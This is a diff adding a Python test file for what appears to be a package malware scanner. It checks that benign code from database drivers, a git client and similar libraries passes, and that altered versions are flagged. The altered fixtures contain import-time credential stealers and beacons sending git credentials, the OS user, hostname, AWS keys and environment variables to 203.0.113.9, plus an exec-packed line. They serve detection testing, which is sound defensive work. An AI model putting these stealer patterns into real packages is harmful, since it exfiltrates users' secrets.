@@ -1,0 +1,273 @@
+"""Honest libraries doing for the user what they are for (a database driver naming the user it
+connects as, a git client listing git's credential store) pass the release exam; the same
+shapes turned to sending what they collect are still reported high."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from blocking import high
+from builders import write, zip_bytes
+from finalexam.config import Config
+from finalexam.exam import run_exam
+
+
+def wheel(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
+    members = {f"{name}/{path}": text for path, text in files.items()}
+    members[f"{name}-1.0.dist-info/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\n"
+    members[f"{name}-1.0.dist-info/WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n"
+    return write(tmp_path / f"{name}-1.0-py3-none-any.whl", zip_bytes(members))
+
+
+def exam(tmp_path: Path, name: str, module: str, text: str) -> dict[str, str]:
+    report = run_exam(wheel(tmp_path, name, {module: text}), Config(disable=("vulnerabilities",)))
+    assert not report.gaps, report.gaps  # every analyzer read the file
+    return high(report)
+
+
+# pymysql 1.2.4 connections.py: the OS user is the default user of a connection
+_DRIVER = """\
+import socket, struct
+try:
+    import getpass
+
+    DEFAULT_USER = getpass.getuser()
+    del getpass
+except (ImportError, KeyError, OSError):
+    DEFAULT_USER = None
+
+class Connection:
+    def __init__(self, host="localhost", user=None, port=3306):
+        self.user = user or DEFAULT_USER
+        self._sock = socket.create_connection((host, port))
+
+    def _request_authentication(self):
+        data = struct.pack("<iIB23s", 1, 2 ** 24, 33, b"") + self.user.encode() + b"\\0"
+        self.write_packet(data)
+
+    def write_packet(self, payload):
+        self._sock.sendall(struct.pack("<I", len(payload))[:3] + b"\\0" + payload)
+"""
+
+
+def test_the_os_user_as_a_drivers_default_user_does_not_block(tmp_path: Path) -> None:
+    assert exam(tmp_path, "dbdriver", "connections.py", _DRIVER) == {}
+    # the same value read by code that runs at import is a beacon's collection
+    beacon = _DRIVER + "_TAG = {'user': DEFAULT_USER, 'os': 'linux'}\n"
+    assert exam(tmp_path, "dbprobe", "connections.py", beacon) == {
+        "thr-system-recon": "dbprobe/connections.py"
+    }
+    # and sent to an address of its own from import-time code it is sent
+    sent = _DRIVER + (
+        "import urllib.request\n"
+        "urllib.request.urlopen('http://203.0.113.9/u', DEFAULT_USER.encode())\n"
+    )
+    assert "thr-recon-sent" in exam(tmp_path, "dbsent", "connections.py", sent)
+
+
+# dulwich 1.2.21 client.py: a git client lists git's own credential store
+_GIT_CLIENT = """\
+import os
+from urllib.parse import urlparse
+from urllib.request import Request, urlopen
+
+DEFAULT_GIT_CREDENTIALS_PATHS = [
+    os.path.expanduser("~/.git-credentials"),
+    os.path.join(os.environ.get("XDG_CONFIG_HOME", "~/.config"), "git", "credentials"),
+]
+
+def get_credentials_from_store(scheme, hostname, fnames=DEFAULT_GIT_CREDENTIALS_PATHS):
+    for fname in fnames:
+        with open(fname, "rb") as f:
+            for line in f:
+                parsed = urlparse(line.strip().decode("utf-8"))
+                if parsed.scheme == scheme and parsed.hostname == hostname:
+                    yield parsed.username, parsed.password
+
+def fetch(url):
+    return urlopen(Request(url))
+"""
+
+
+def test_a_credential_path_only_functions_read_does_not_block(tmp_path: Path) -> None:
+    assert exam(tmp_path, "gitclient", "client.py", _GIT_CLIENT) == {}
+    # read at import, the same list is a stealer's
+    stealer = _GIT_CLIENT + (
+        "for _path in DEFAULT_GIT_CREDENTIALS_PATHS:\n"
+        "    urlopen(Request('http://203.0.113.9/c', data=open(_path, 'rb').read()))\n"
+    )
+    assert "thr-cloud-credentials" in exam(tmp_path, "gitsteal", "client.py", stealer)
+    # and so is a function module-level code calls that reads it
+    called = _GIT_CLIENT + (
+        "def _collect():\n"
+        "    return [open(p).read() for p in DEFAULT_GIT_CREDENTIALS_PATHS]\n"
+        "_found = _collect()\n"
+    )
+    assert "thr-cloud-credentials" in exam(tmp_path, "gitcall", "client.py", called)
+
+
+# asyncpg 0.32.0 connect_utils.py: socket code picked by the operating system's name
+_OS_NAME = """\
+import platform, socket
+
+_system = platform.uname().system
+
+if _system == "Windows":
+    DEFAULT_HOST = "localhost"
+else:
+    DEFAULT_HOST = "/run/postgresql"
+
+def connect(host=DEFAULT_HOST, port=5432):
+    if host.startswith("/"):
+        return socket.socket(socket.AF_UNIX).connect(f"{host}/.s.PGSQL.{port}")
+    return socket.create_connection((host, port))
+"""
+
+
+def test_the_operating_systems_name_is_not_fingerprinting(tmp_path: Path) -> None:
+    assert exam(tmp_path, "pgdriver", "connect_utils.py", _OS_NAME) == {}
+    # the machine's name from the same call is
+    node = _OS_NAME.replace("uname().system", "uname().node")
+    assert exam(tmp_path, "pgnode", "connect_utils.py", node) == {
+        "thr-system-recon": "pgnode/connect_utils.py"
+    }
+
+
+# cohere 7.3.1 aws_client.py: the user's AWS keys sign each request in an httpx event hook
+_SIGNING_CLIENT = """\
+import json
+import boto3
+import httpx
+from botocore.auth import SigV4Auth
+from botocore.awsrequest import AWSRequest
+
+def map_request_to_bedrock(service, aws_access_key=None, aws_secret_key=None, aws_region=None):
+    session = boto3.Session(
+        region_name=aws_region,
+        aws_access_key_id=aws_access_key,
+        aws_secret_access_key=aws_secret_key,
+    )
+    aws_region = session.region_name
+    signer = SigV4Auth(session.get_credentials(), service, aws_region)
+
+    def _event_hook(request):
+        url = f"https://bedrock-runtime.{aws_region}.amazonaws.com/model/invoke"
+        request.url = httpx.URL(url)
+        aws_request = AWSRequest(method=request.method, url=url, data=request.read())
+        signer.add_auth(aws_request)
+        request.headers = httpx.Headers(aws_request.prepare().headers)
+
+    return _event_hook
+
+class AwsClient:
+    def __init__(self, *, aws_access_key=None, aws_secret_key=None, aws_region=None):
+        self._client = httpx.Client(
+            event_hooks={"request": [map_request_to_bedrock(
+                "bedrock", aws_access_key=aws_access_key, aws_secret_key=aws_secret_key,
+                aws_region=aws_region,
+            )]},
+            timeout=60,
+        )
+
+    def chat(self, message):
+        return self._client.post("https://api.cohere.com/v1/chat", json={"message": message})
+"""
+
+
+def test_keys_that_sign_a_clients_requests_are_not_sent(tmp_path: Path) -> None:
+    assert exam(tmp_path, "signer", "aws_client.py", _SIGNING_CLIENT) == {}
+    # a client told to put the pair on every request sends it
+    leaking = _SIGNING_CLIENT.replace(
+        "            timeout=60,\n",
+        "            headers={'x-ak': aws_access_key, 'x-sk': aws_secret_key},\n",
+    )
+    assert exam(tmp_path, "leaker", "aws_client.py", leaking) == {
+        "thr-access-secret-sent": "leaker/aws_client.py"
+    }
+
+
+# pyspark 4.3.0 ml/torch/distributor.py: a training command's output streamed to the driver
+_LOG_STREAM = """\
+import os, socket, subprocess, sys
+
+class LogStreamingClient:
+    def __init__(self, address, port):
+        self.sock = socket.create_connection((address, port))
+
+    def send(self, message):
+        self.sock.sendall(message.encode("utf-8") + b"\\\\n")
+
+def execute_command(cmd, log_streaming_client=None):
+    task = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=os.environ)
+    for line in task.stdout:
+        decoded = line.decode("utf-8")
+        sys.stdout.write(decoded)
+        if log_streaming_client:
+            log_streaming_client.send(decoded.rstrip())
+    task.wait()
+"""
+
+
+def test_the_output_of_a_child_given_the_environment_is_not_the_environment(
+    tmp_path: Path,
+) -> None:
+    assert exam(tmp_path, "streamer", "distributor.py", _LOG_STREAM) == {}
+    # the environment itself on the same stream is sent
+    sending = _LOG_STREAM.replace(
+        "    task.wait()\n",
+        "    log_streaming_client.send(repr(dict(os.environ)))\n    task.wait()\n",
+    )
+    assert exam(tmp_path, "envsender", "distributor.py", sending) == {
+        "thr-env-sent": "envsender/distributor.py"
+    }
+
+
+# ipykernel 7.4.0 kernelbase.py: a usage request answered on the stream it came in on
+_KERNEL = """\
+import os, socket
+
+class Kernel:
+    def __init__(self, session):
+        self.session = session
+
+    async def usage_request(self, stream, ident, parent):
+        reply_content = {"hostname": socket.gethostname(), "pid": os.getpid()}
+        reply_msg = self.session.send(stream, "usage_reply", reply_content, parent, ident)
+        return reply_msg
+
+    def dispatch(self, stream, msg):
+        handler = getattr(self, msg["header"]["msg_type"])
+        return handler(stream, msg["idents"], msg)
+"""
+
+
+def test_identity_sent_where_the_caller_asks_is_the_protocol(tmp_path: Path) -> None:
+    assert exam(tmp_path, "kernel", "kernelbase.py", _KERNEL) == {}
+    # the same method handed an address the code names itself beacons
+    beacon = _KERNEL + (
+        "    def start(self):\n"
+        "        return self.usage_request('tcp://203.0.113.9:5555', b'', {})\n"
+    )
+    assert exam(tmp_path, "kbeacon", "kernelbase.py", beacon) == {
+        "thr-recon-sent": "kbeacon/kernelbase.py"
+    }
+
+
+def _character_table() -> str:
+    """A generated character class on one line, as html5lib's _ihatexml.py writes it."""
+    ranges = "".join(f"\\\\u{c:04x}-\\\\u{c + 3:04x}" for c in range(0x0132, 0x0132 + 4 * 150, 4))
+    return f"nonXmlNameBMPRegexp = re.compile('[\\\\x00-,/:-@{ranges}]')\n"
+
+
+def test_a_long_generated_regex_is_not_packed_code(tmp_path: Path) -> None:
+    """bleach 6.4.0 vendors html5lib, whose _ihatexml.py compiles XML name tables written on
+    lines of thousands of characters: a regex compiled, nothing evaluated."""
+    table = _character_table()
+    assert len(table) > 2000
+    source = "import re\n\n" + table
+    assert exam(tmp_path, "xmltables", "_vendor/html5lib/_ihatexml.py", source) == {}
+    # the same line evaluated is packed code
+    packed = "import re\n\n" + table.replace("re.compile(", "exec(")
+    assert exam(tmp_path, "xmlpacked", "_vendor/html5lib/_ihatexml.py", packed) == {
+        "obf-packed-code": "xmlpacked/_vendor/html5lib/_ihatexml.py"
+    }
